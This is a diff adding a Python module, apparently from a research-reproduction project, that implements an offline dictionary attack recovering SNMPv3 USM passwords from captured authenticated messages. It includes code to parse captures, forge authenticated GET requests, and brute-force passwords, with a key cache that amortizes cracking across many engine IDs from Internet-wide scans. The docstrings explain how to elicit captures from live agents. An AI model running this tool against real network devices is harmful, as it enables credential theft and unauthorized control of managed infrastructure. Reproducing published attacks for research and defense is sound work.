@@ -1,0 +1,177 @@
+"""Offline USM password recovery (§8, Thomas 2021).
+
+The paper warns that "obtaining the persistent engine ID permits brute
+force SNMPv3 password recovery attacks".  The mechanics:
+
+1. the attacker learns the engine ID for free (discovery);
+2. a single *authenticated* request/response is captured — or elicited:
+   send any authenticated GET with a guessed user name; an agent with
+   that user returns a ``wrongDigests`` Report, while a real message from
+   a legitimate manager can be sniffed;
+3. for each password guess: stretch (``password_to_key``), localize with
+   the known engine ID, HMAC the captured message with its auth-params
+   field zeroed, and compare against the captured MAC.  No further
+   packets are sent — the attack is fully offline.
+
+:class:`UsmBruteForcer` implements step 3 with a precomputation cache:
+``Ku`` (the expensive 1 MB stretch) depends only on the password, so one
+dictionary stretched once can be re-localized cheaply against *every*
+engine ID collected by an Internet-wide scan — the reason a leaked
+engine-ID corpus is more dangerous than any single disclosure.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Iterable
+
+from repro.asn1 import ber
+from repro.asn1.oid import Oid
+from repro.snmp import constants, pdu as pdu_mod
+from repro.snmp.messages import ScopedPdu, SnmpV3Message, UsmSecurityParameters
+from repro.snmp.usm import (
+    AuthProtocol,
+    compute_mac,
+    localize_key,
+    localized_key_from_password,
+    password_to_key,
+)
+
+_ZEROED_MAC = b"\x00" * 12
+
+
+@dataclass(frozen=True)
+class CapturedMessage:
+    """An authenticated SNMPv3 message as sniffed off the wire."""
+
+    raw: bytes
+    engine_id: bytes
+    user_name: bytes
+    auth_params: bytes
+
+    @classmethod
+    def from_wire(cls, raw: bytes) -> "CapturedMessage":
+        """Dissect a capture; raises ``BerDecodeError`` on non-v3 data and
+        ``ValueError`` when the message carries no authentication."""
+        message = SnmpV3Message.decode(raw)
+        if len(message.security.auth_params) != len(_ZEROED_MAC):
+            raise ValueError("captured message is not HMAC-authenticated")
+        if not message.security.engine_id:
+            raise ValueError("captured message carries no engine ID")
+        return cls(
+            raw=raw,
+            engine_id=message.security.engine_id,
+            user_name=message.security.user_name,
+            auth_params=message.security.auth_params,
+        )
+
+    def zeroed(self) -> bytes:
+        """The serialized message with the MAC field zero-filled, i.e. the
+        exact byte string the HMAC was computed over."""
+        return self.raw.replace(self.auth_params, _ZEROED_MAC, 1)
+
+
+def forge_authenticated_get(
+    engine_id: bytes,
+    engine_boots: int,
+    engine_time: int,
+    user_name: bytes,
+    password: str,
+    protocol: AuthProtocol = AuthProtocol.HMAC_SHA1_96,
+    oid: "Oid | None" = None,
+    msg_id: int = 0x5EED,
+) -> bytes:
+    """Build the wire bytes of a legitimate manager's authenticated GET.
+
+    The attacker's training data: exactly what a passive tap between a
+    real NMS and the agent records.  Used by the tests and benchmarks to
+    manufacture captures without standing up a full management station.
+    """
+    message = SnmpV3Message(
+        msg_id=msg_id,
+        flags=constants.FLAG_REPORTABLE | constants.FLAG_AUTH,
+        security=UsmSecurityParameters(
+            engine_id=engine_id,
+            engine_boots=engine_boots,
+            engine_time=engine_time,
+            user_name=user_name,
+            auth_params=_ZEROED_MAC,
+        ),
+        scoped_pdu=ScopedPdu(
+            context_engine_id=engine_id,
+            context_name=b"",
+            pdu=pdu_mod.get_request(msg_id, oid or constants.OID_SYS_DESCR),
+        ),
+    )
+    blob = message.encode()
+    key = localized_key_from_password(password, engine_id, protocol)
+    mac = compute_mac(key, blob, protocol)
+    return blob.replace(_ZEROED_MAC, mac, 1)
+
+
+@dataclass(frozen=True)
+class CrackResult:
+    """Outcome of a dictionary run."""
+
+    password: "str | None"
+    guesses_tried: int
+    stretches_computed: int
+
+    @property
+    def cracked(self) -> bool:
+        return self.password is not None
+
+
+@dataclass
+class UsmBruteForcer:
+    """Offline dictionary attack with cross-engine stretch reuse."""
+
+    protocol: AuthProtocol = AuthProtocol.HMAC_SHA1_96
+    _stretch_cache: dict[str, bytes] = field(default_factory=dict, repr=False)
+
+    def stretch(self, password: str) -> bytes:
+        """``Ku`` for a guess — cached: one stretch serves every engine."""
+        key = self._stretch_cache.get(password)
+        if key is None:
+            key = password_to_key(password, self.protocol)
+            self._stretch_cache[password] = key
+        return key
+
+    def try_guess(self, capture: CapturedMessage, password: str) -> bool:
+        """Check one guess against one capture."""
+        localized = localize_key(self.stretch(password), capture.engine_id, self.protocol)
+        expected = compute_mac(localized, capture.zeroed(), self.protocol)
+        return expected == capture.auth_params
+
+    def crack(self, capture: CapturedMessage, dictionary: Iterable[str]) -> CrackResult:
+        """Run a dictionary against one capture."""
+        cached_before = len(self._stretch_cache)
+        tried = 0
+        for guess in dictionary:
+            tried += 1
+            if self.try_guess(capture, guess):
+                return CrackResult(
+                    password=guess,
+                    guesses_tried=tried,
+                    stretches_computed=len(self._stretch_cache) - cached_before,
+                )
+        return CrackResult(
+            password=None,
+            guesses_tried=tried,
+            stretches_computed=len(self._stretch_cache) - cached_before,
+        )
+
+    def crack_many(
+        self, captures: "list[CapturedMessage]", dictionary: "list[str]"
+    ) -> dict[bytes, CrackResult]:
+        """Attack a corpus of captures with one dictionary.
+
+        Demonstrates the amortization the paper warns about: the stretch
+        cache is shared, so the marginal cost per additional engine is a
+        cheap localization + HMAC, not a 1 MB digest.
+        """
+        return {capture.engine_id: self.crack(capture, dictionary) for capture in captures}
+
+    @property
+    def cache_size(self) -> int:
+        return len(self._stretch_cache)
